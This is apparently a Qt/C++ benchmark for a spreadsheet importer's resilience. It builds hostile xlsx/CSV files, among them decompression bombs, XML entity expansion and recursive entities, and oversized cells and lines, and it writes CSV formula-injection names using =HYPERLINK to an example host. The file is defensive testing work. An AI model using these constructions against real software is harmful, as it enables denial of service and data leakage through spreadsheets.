// Hostile spreadsheets through the real import, and a large valid one: for each file, the time from the
// import's start to its box or its preview, the peak resident size above what the program held before,
// and the largest lateness of a 10 ms timer on the GUI thread meanwhile (the draw screen's timers run
// there: more than 200 ms would be a visible freeze). The files are made first, outside the figures.
// Run it by hand (it takes a minute or two): build/bench/bench/measure_import
#include "apppaths.h"
#include "dialogs.h"
#include "event.h"
#include "hostilesheets.h"
#include "resultsexport.h"
#include "sheettable.h"
#include "spreadsheetimport.h"

#include <QApplication>
#include <QCheckBox>
#include <QElapsedTimer>
#include <QEventLoop>
#include <QFile>
#include <QFileInfo>
#include <QLabel>
#include <QListWidget>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QTemporaryDir>
#include <QTimer>

#include <malloc.h>

#include <cstdio>
#include <optional>

namespace {
using namespace HostileSheets;

qint64 statusKb(const char* field) {
    QFile status(QStringLiteral("/proc/self/status"));
    if (!status.open(QIODevice::ReadOnly))
        return -1;
    for (const QByteArray& line : status.readAll().split('\n'))
        if (line.startsWith(field))
            return line.mid(qstrlen(field)).trimmed().split(' ').first().toLongLong();
    return -1;
}

// Starts the peak resident size afresh (Linux: clear_refs 5) and gives the size now.
qint64 resetPeakKb() {
    malloc_trim(0);
    QFile refs(QStringLiteral("/proc/self/clear_refs"));
    if (refs.open(QIODevice::WriteOnly))
        refs.write("5");
    return statusKb("VmRSS:");
}

// Boxes are recorded, the open-file dialog answers with the file of the case.
class Boxes : public Dialogs {
public:
    Boxes() { Dialogs::install(this); }
    ~Boxes() override { Dialogs::install(nullptr); }
    void message(Icon, const QString&, const QString& text) override { texts << text; }
    bool question(const QString&, const QString&) override { return true; }
    QString openFile(const QString&, const QString&) override { return file; }
    QString saveFile(const QString&, const QString&, QString*, const QString&) override { return {}; }
    std::optional<QColor> chooseColor(const QColor&) override { return std::nullopt; }
    std::optional<QFont> chooseFont(const QFont&) override { return std::nullopt; }
    void beep() override {}
    void openDocument(const QString&) override {}

    QString file;
    QStringList texts;
};

// The largest lateness of a 10 ms timer on the GUI thread while it runs.
class Lateness : public QObject {
public:
    Lateness() {
        m_timer.setTimerType(Qt::PreciseTimer);
        m_timer.setInterval(kIntervalMs);
        connect(&m_timer, &QTimer::timeout, this,
                [this] { m_worst = std::max(m_worst, m_since.restart() - kIntervalMs); });
        m_since.start();
        m_timer.start();
    }
    qint64 worstMs() const { return std::max<qint64>(0, m_worst); }

private:
    static constexpr int kIntervalMs = 10;
    QTimer m_timer;
    QElapsedTimer m_since;
    qint64 m_worst = 0;
};

struct Outcome {
    double seconds = 0;
    qint64 peakKb = 0;
    qint64 worstLateMs = 0;
    QString result;
};

// Runs the GUI thread's event loop (idle between events, as in the program) until done() or the time
// is up.
bool runUntil(const std::function<bool()>& done, int seconds = 300) {
    QElapsedTimer timer;
    timer.start();
    QEventLoop loop;
    QTimer check;
    QObject::connect(&check, &QTimer::timeout, &loop, [&] {
        if (done() || timer.elapsed() > seconds * 1000)
            loop.quit();
    });
    check.start(5);
    if (!done())
        loop.exec();
    return done();
}

class Importer {
public:
    Importer() {
        m_owner.resize(400, 300);
        // The program has its Chinese fonts loaded long before an import: so has this.
        auto* label = new QLabel(QStringLiteral("从表格导入抽奖名单：姓名、工号、部门"), &m_owner);
        label->setFont(QFont(QStringLiteral("Noto Sans CJK SC")));
        m_owner.show();
        runUntil([] { return false; }, 0);
        runUntil([&] { return label->isVisible(); });
    }

    // The import of the file to its box or its preview; with `import`, on through "导入" to the
    // information box of a finished import.
    Outcome run(const QString& file, bool import = false) {
        m_boxes.file = file;
        m_boxes.texts.clear();
        const qint64 before = resetPeakKb();
        Outcome outcome;
        {
            Lateness lateness;
            QElapsedTimer timer;
            timer.start();
            SpreadsheetImportDialog::start(&m_owner, &m_view, m_event, [] { return true; });
            runUntil([&] { return !m_boxes.texts.isEmpty() || preview(); });
            outcome.seconds = double(timer.nsecsElapsed()) / 1e9;
            if (SpreadsheetImportDialog* dialog = preview()) {
                outcome.result = QStringLiteral("preview after %1 s (GUI late %2 ms): %3")
                                     .arg(outcome.seconds, 0, 'f', 2)
                                     .arg(lateness.worstMs())
                                     .arg(dialog->findChild<QLabel*>(QStringLiteral("entrantCount"))->text());
                if (import) {
                    // One column less and back again: what a click in the preview costs.
                    QElapsedTimer click;
                    click.start();
                    auto* columns = dialog->findChild<QListWidget*>(QStringLiteral("columnList"));
                    columns->item(0)->setCheckState(Qt::Unchecked);
                    columns->item(0)->setCheckState(Qt::Checked);
                    m_clickMs = double(click.nsecsElapsed()) / 2e6;
                    dialog->findChild<QPushButton*>(QStringLiteral("importButton"))->click();
                    runUntil([&] { return !m_boxes.texts.isEmpty(); });
                    outcome.seconds = double(timer.nsecsElapsed()) / 1e9;
                    outcome.result += QStringLiteral(", then ") + m_boxes.texts.value(0);
                } else {
                    dialog->reject();
                }
            } else {
                outcome.result = m_boxes.texts.value(0);
            }
            outcome.worstLateMs = lateness.worstMs();
        }
        outcome.peakKb = statusKb("VmHWM:") - before;
        runUntil([&] { return !preview(); });
        QCoreApplication::sendPostedEvents(nullptr, QEvent::DeferredDelete);
        return outcome;
    }
    double clickMs() const { return m_clickMs; }

private:
    SpreadsheetImportDialog* preview() const {
        SpreadsheetImportDialog* dialog = m_owner.findChild<SpreadsheetImportDialog*>();
        return dialog && dialog->isVisible() ? dialog : nullptr;
    }

    Boxes m_boxes;
    QWidget m_owner;
    QPlainTextEdit m_view;
    Event m_event; // the import keeps its columns' display choices in the event
    double m_clickMs = 0;
};

// A staff list as HR exports it: 200,000 rows (the title row and 199,999 people) of 12 columns, all
// different texts, written by the program's own xlsx export (libxlsxwriter).
void writeStaff(const QString& path) {
    static const QStringList kSurnames = {QStringLiteral("王"), QStringLiteral("李"), QStringLiteral("张"),
                                          QStringLiteral("刘"), QStringLiteral("陈"), QStringLiteral("欧阳")};
    static const QStringList kDepartments = {QStringLiteral("销售部"), QStringLiteral("研发部"),
                                             QStringLiteral("财务部"), QStringLiteral("人力资源部")};
    QList<QStringList> rows{{QStringLiteral("姓名"), QStringLiteral("工号"), QStringLiteral("部门"),
                             QStringLiteral("手机"), QStringLiteral("邮箱"), QStringLiteral("身份证号"),
                             QStringLiteral("入职日期"), QStringLiteral("职位"), QStringLiteral("分公司"),
                             QStringLiteral("地址"), QStringLiteral("紧急联系人"), QStringLiteral("备注")}};
    quint32 seed = 2027;
    const auto next = [&seed] { return seed = seed * 1664525u + 1013904223u; };
    for (int i = 1; i < 200'000; ++i) {
        const QString name = kSurnames.at(i % kSurnames.size()) + QString::number(next() % 100000, 36);
        rows.append(
            {name, QStringLiteral("%1").arg(i, 6, 10, QLatin1Char('0')),
             kDepartments.at(next() % kDepartments.size()),
             QString::number(13800000000LL + next() % 99999999),
             QStringLiteral("user%1@example.com").arg(next() % 1000000),
             QStringLiteral("1101011990%1").arg(next() % 100000000, 8, 10, QLatin1Char('0')),
             QStringLiteral("20%1-%2-%3").arg(10 + next() % 15).arg(1 + next() % 12).arg(1 + next() % 28),
             QStringLiteral("职员%1级").arg(next() % 9), QStringLiteral("分公司%1").arg(next() % 40),
             QStringLiteral("某市某区某路%1号").arg(next() % 10000),
             QStringLiteral("联系人%1").arg(next() % 100000, 0, 36),
             QStringLiteral("备注%1").arg(next() % 1000)});
    }
    ResultsExport::writeXlsx(path, rows);
}

void report(const QString& name, qint64 bytes, const Outcome& o) {
    std::printf("%-46s %9.1f MB %8.2f s %8.1f MB %6lld ms  %s\n", name.toUtf8().constData(),
                double(bytes) / 1e6, o.seconds, double(o.peakKb) / 1024.0,
                static_cast<long long>(o.worstLateMs), o.result.left(90).toUtf8().constData());
    std::fflush(stdout);
}
} // namespace

int main(int argc, char* argv[]) {
    qputenv("QT_QPA_PLATFORM",
            qgetenv("QT_QPA_PLATFORM").isEmpty() ? "offscreen" : qgetenv("QT_QPA_PLATFORM"));
    QApplication app(argc, argv);
    QTemporaryDir dir;
    AppPaths::setFolder(dir.path());
    const auto file = [&](const char* name) { return dir.filePath(QString::fromLatin1(name)); };
    const QByteArray cell = "<c><v>1</v></c>";
    const QByteArray sharedRow = "<row>" + QByteArray("<c t=\"s\"><v>0</v></c>").repeated(256) + "</row>";
    const QByteArray inlineCell = "<row><c t=\"inlineStr\"><is><t>";
    const QByteArray inlineEnd = "</t></is></c></row>";
    QByteArray manyRels = "<Relationship Id=\"rId1\" Type=\"x/worksheet\" Target=\"worksheets/sheet1.xml\"/>";
    for (int i = 0; i < 1000; ++i)
        manyRels += "<Relationship Id=\"s" + QByteArray::number(i) +
                    "\" Type=\"x/sharedStrings\" Target=\"sharedStrings.xml\"/>";

    struct Case {
        const char* name;
        QString path;
        std::function<bool(const QString&)> make;
    };
    const QList<Case> cases{
        {"1 blanks: 3 GiB between rows", file("blanks.xlsx"),
         [&](const QString& p) {
             return writePackage(p, workbook() + QList{sheet(cell, QByteArray(1024, ' '), 3 << 20)});
         }},
        {"1 one cell of 3 GiB", file("cell3g.xlsx"),
         [&](const QString& p) {
             return writePackage(p, workbook() +
                                        QList{sheet(inlineCell, QByteArray(1024, 'x'), 3 << 20, inlineEnd)});
         }},
        {"1 bomb: 4 GiB of empty cells", file("bomb.xlsx"),
         [&](const QString& p) {
             return writePackage(p, workbook() + QList{sheet("<row>", "<c/>", 1LL << 30, "</row>")});
         }},
        {"2 a cell of 10^9 characters", file("cell.xlsx"),
         [&](const QString& p) {
             return writePackage(p, workbook() + QList{sheet(inlineCell, "x", 1'000'000'000, inlineEnd)});
         }},
        {"3 string of 100,000 in 20x256 cells", file("string.xlsx"),
         [&](const QString& p) {
             return writePackage(p, workbook() + QList{sheet({}, sharedRow, 20),
                                                       sharedStrings("<si><t>", "x", 100'000, "</t></si>")});
         }},
        {"3 string of 10 million in 20x256 cells", file("string10m.xlsx"),
         [&](const QString& p) {
             return writePackage(p,
                                 workbook() + QList{sheet({}, sharedRow, 20),
                                                    sharedStrings("<si><t>", "x", 10'000'000, "</t></si>")});
         }},
        {"3 string of 32,000 in 20x256 cells", file("string32k.xlsx"),
         [&](const QString& p) {
             return writePackage(p, workbook() + QList{sheet({}, sharedRow, 20),
                                                       sharedStrings("<si><t>", "x", 32'000, "</t></si>")});
         }},
        {"4 entity of 4,000 x 5 million", file("entity.xlsx"),
         [&](const QString& p) {
             const QByteArray head = "<?xml version=\"1.0\"?><!DOCTYPE w [<!ENTITY e \"" +
                                     QByteArray(4000, 'x') + "\">]><worksheet><sheetData>" + inlineCell;
             return writePackage(p, workbook() +
                                        QList<Part>{{QStringLiteral("xl/worksheets/sheet1.xml"), head, "&e;",
                                                     5'000'000, inlineEnd + "</sheetData></worksheet>"}});
         }},
        {"5 1000 relationships to one part", file("rels.xlsx"),
         [&](const QString& p) {
             return writePackage(
                 p, workbook(manyRels) +
                        QList{sheet({}, sharedRow, 20),
                              sharedStrings({}, "<si><t>" + QByteArray(30'000, 'x') + "</t></si>", 1000)});
         }},
        {"6 xlsx of 51.2 million cells", file("table.xlsx"),
         [&](const QString& p) {
             return writePackage(p, workbook() +
                                        QList{sheet({}, "<row>" + cell.repeated(256) + "</row>", 200'000)});
         }},
        {"6 CSV of 200,000 x 256", file("table.csv"),
         [&](const QString& p) {
             return writeRepeated(p, {}, QByteArray("1,").repeated(255) + "1\n", 200'000);
         }},
        {"6 CSV line of 100 million commas", file("commas.csv"),
         [&](const QString& p) { return writeRepeated(p, "a,", ",", 100'000'000, "b"); }},
        {"6 CSV line of 200 million commas", file("commas200.csv"),
         [&](const QString& p) { return writeRepeated(p, "a,", ",", 200'000'000, "b"); }},
        {"6 CSV line of 100 MB, no delimiter", file("line.csv"),
         [&](const QString& p) { return writeRepeated(p, {}, "x", 100'000'000); }},
        {"8 recursive entities", file("recursive.xlsx"),
         [&](const QString& p) {
             const QByteArray head =
                 "<?xml version=\"1.0\"?><!DOCTYPE w [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>"
                 "<worksheet><sheetData>" +
                 inlineCell + "&a;";
             return writePackage(p, workbook() + QList<Part>{{QStringLiteral("xl/worksheets/sheet1.xml"),
                                                              head,
                                                              {},
                                                              0,
                                                              inlineEnd + "</sheetData></worksheet>"}});
         }},
    };

    // An argument runs only the cases whose name holds it ("valid": the valid workbook alone).
    const QString only = argc > 1 ? QString::fromLocal8Bit(argv[1]) : QString();
    std::printf("%-46s %12s %10s %11s %9s  %s\n", "file", "size", "to box", "peak above", "GUI late",
                "outcome");
    Importer importer;
    for (const Case& c : cases) {
        if (!QString::fromUtf8(c.name).contains(only))
            continue;
        if (!c.make(c.path))
            qFatal("cannot write %s", c.name);
        const Outcome outcome = importer.run(c.path);
        report(QString::fromUtf8(c.name), QFileInfo(c.path).size(), outcome);
        QFile::remove(c.path);
    }

    // 7: the CSV export of results whose names are formulas.
    if (QStringLiteral("7 export").contains(only)) {
        QList<QStringList> table{{QStringLiteral("中奖人")}};
        for (int i = 0; i < 10'000; ++i)
            table.append({QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A%1,\"点我\")").arg(i)});
        QElapsedTimer timer;
        timer.start();
        ResultsExport::writeCsv(file("results.csv"), table);
        const double ms = double(timer.nsecsElapsed()) / 1e6;
        const SheetTable back = SheetImport::readFile(file("results.csv"));
        std::printf("7 CSV export of 10,000 formula names: %.1f ms, first cell written as %s\n", ms,
                    back.cell(1, 0).toUtf8().constData());
    }

    if (!QStringLiteral("valid").contains(only))
        return 0;
    const QString staff = qEnvironmentVariableIsSet("MEASURE_KEEP")
                              ? QStringLiteral("/tmp/measure-staff.xlsx")
                              : file("staff.xlsx");
    if (!QFile::exists(staff))
        writeStaff(staff);
    const Outcome valid = importer.run(staff, true);
    report(QStringLiteral("valid: 200,000 rows x 12 columns"), QFileInfo(staff).size(), valid);
    std::printf("  a click on a column in its preview: %.1f ms on the GUI thread\n", importer.clickMs());
    return 0;
}
